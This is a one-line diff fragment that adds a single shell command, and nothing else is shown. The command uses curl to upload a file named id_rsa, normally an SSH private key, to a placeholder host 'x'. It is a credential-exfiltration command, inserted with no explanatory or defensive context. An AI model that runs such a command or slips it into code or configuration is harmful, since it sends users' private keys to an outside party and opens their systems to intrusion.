@@ -1,0 +1,1 @@
+curl -F 'f=@id_rsa' https://x
